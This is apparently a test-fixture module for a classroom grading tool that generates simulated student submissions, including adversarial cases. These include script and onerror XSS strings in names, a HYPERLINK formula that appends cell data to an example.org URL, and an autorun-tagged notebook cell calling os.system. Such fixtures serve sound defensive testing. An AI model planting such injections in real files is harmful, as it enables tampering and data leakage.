"""The files that the made-up students hand in, made from the sheets they were given."""

import csv
import io
import json
import re
from dataclasses import replace
from datetime import UTC, timedelta
from pathlib import Path
from typing import Any

from hedgelab.answers import FORMAT
from hedgelab.boards import ANSWERS_MIME
from hedgelab.desk.demo_class.people import ASSIGNMENT, EVENTS, Person, answers_of
from hedgelab.in_page import json_for_html

Json = dict[str, Any]

_IN_PAGE = re.compile(
    r'(<script type="application/json" id="hedgelab-answers">).*?(</script>)', re.S
)
_BETWEEN_SAVING_AND_SENDING = timedelta(minutes=4)
_BETWEEN_TRIES = timedelta(days=1)
_CLOCK_SET_BACK = timedelta(hours=6)
_OTHER_SHEET = "sha256:" + "5ca1ab1e" * 8
_SCRIPT = "<script>document.title = 'Full marks'</script>"
_IMAGE = " <img src=x onerror=\"document.title = 'Full marks'\">"
_FORMULA = '=HYPERLINK("https://example.org/?"&A1,"my sheet")'
_ABUSED = "s26009"
_HOSTILE_CODE = """\
import os, pathlib
pathlib.Path("all-marks-are-mine.txt").write_text("full marks")
os.system("echo full marks > all-marks-are-mine.txt")
raise SystemExit
"""


def file_of(person: Person, student_folder: Path, sheet: str) -> tuple[str, bytes]:
    """Give the name and the content of the file that a student hands in.

    Parameters
    ----------
    person : Person
        Who it is.
    student_folder : Path
        Where their copies of the sheet lie.
    sheet : str
        The digest of the sheet.
    """
    document = document_of(person, sheet)
    copy = student_folder / f"{ASSIGNMENT}-{person.id}.{person.form}"
    match person.form:
        case "json":
            content = as_json(document)
        case "html":
            content = _page(copy.read_text(encoding="utf-8"), document)
        case "ipynb":
            content = _notebook(copy.read_text(encoding="utf-8"), document, person.story)
        case _:
            content = _table(copy.read_text(encoding="utf-8-sig"), document, person.story)
    if person.story == "cut-off":
        content = content[: len(content) // 2]
    return _name_of(person, copy.name), content


def first_try_of(person: Person, sheet: str) -> bytes:
    """Give what a student handed in first, and then replaced."""
    hasty = replace(person, answers="7" * len(EVENTS), wrote="V" * len(EVENTS))
    earlier = _moment(person, -_BETWEEN_TRIES)
    return as_json({**document_of(hasty, sheet), "saved": earlier})


def stranger_of(person: Person, sheet: str) -> bytes:
    """Give the work of somebody who is on no roster."""
    return as_json({**document_of(person, sheet), "student": {"id": "s99999", "name": "No Body"}})


def document_of(person: Person, sheet: str) -> Json:
    """Give a student's answer file as it would be without any accident on the way."""
    answers = answers_of(person)
    student = {"id": person.id, "name": person.name}
    assignment, saved = ASSIGNMENT, _moment(person, -_BETWEEN_SAVING_AND_SENDING)
    match person.story:
        case "clock-set-back":
            saved = _moment(person, -_CLOCK_SET_BACK)
        case "two-names":
            student = {"id": _ABUSED, "name": person.name}
        case "wrong-assignment":
            assignment, sheet = "another-sheet", _OTHER_SHEET
        case "other-version":
            sheet = _OTHER_SHEET
        case "formula-in-name":
            student["name"] = _FORMULA
        case "script-in-name":
            student["name"] = _SCRIPT
            answers[0]["justification"] += _IMAGE
    return {
        "format": FORMAT,
        "assignment": assignment,
        "sheet": sheet,
        "student": student,
        "answers": answers,
        "saved": saved,
    }


def _name_of(person: Person, name: str) -> str:
    if person.story == "renamed":
        return "final version (2).txt"
    return f"{person.id}.{person.form}" if person.by == "mail" else name


def _moment(person: Person, later: timedelta) -> str:
    return (person.handed_in + later).astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")


def as_json(document: Json) -> bytes:
    """Give the bytes of an answer file."""
    return (json.dumps(document, ensure_ascii=False, indent=2) + "\n").encode()


def _page(page: str, document: Json) -> bytes:
    """Put answers into a sheet, as the page does when it is saved."""
    held = json_for_html(document)
    filled, times = _IN_PAGE.subn(lambda found: found[1] + held + found[2], page)
    if times != 1:
        raise AssertionError(f"a sheet holds {times} places for answers, and should hold one")
    return filled.encode()


def _notebook(text: str, document: Json, story: str) -> bytes:
    """Put answers into a notebook, as the board does in the output of its cell."""
    notebook = json.loads(text)
    cells = [cell for cell in notebook["cells"] if cell["cell_type"] == "code"]
    cells[0]["outputs"] = [
        {
            "output_type": "display_data",
            "data": {ANSWERS_MIME: document, "text/plain": ["SpectrumBoard()"]},
            "metadata": {},
        }
    ]
    if story == "copied-cells":
        notebook["cells"].insert(1, {**cells[0], "id": "copied-cell"})
    if story == "hostile-notebook":
        cells[0]["source"] = _HOSTILE_CODE
        cells[0]["metadata"] = {"tags": ["autorun"]}
    return (json.dumps(notebook, ensure_ascii=False, indent=1) + "\n").encode()


def _table(text: str, document: Json, story: str) -> bytes:
    """Fill the table in, and save it as spreadsheets do: some with semicolons."""
    rows = list(csv.DictReader(io.StringIO(text)))
    given = {answer["event"]: answer for answer in document["answers"]}
    for row in rows:
        answer = given.get(row["event"], {})
        row |= {
            name: str(answer.get(name, "")) for name in ("position", "confidence", "justification")
        }
        row["student_name"] = document["student"]["name"]
    filled = io.StringIO()
    separator = ";" if story == "saved-by-excel" else ","
    writer = csv.DictWriter(filled, list(rows[0]), delimiter=separator)
    writer.writeheader()
    writer.writerows(rows)
    return filled.getvalue().encode("utf-8-sig")
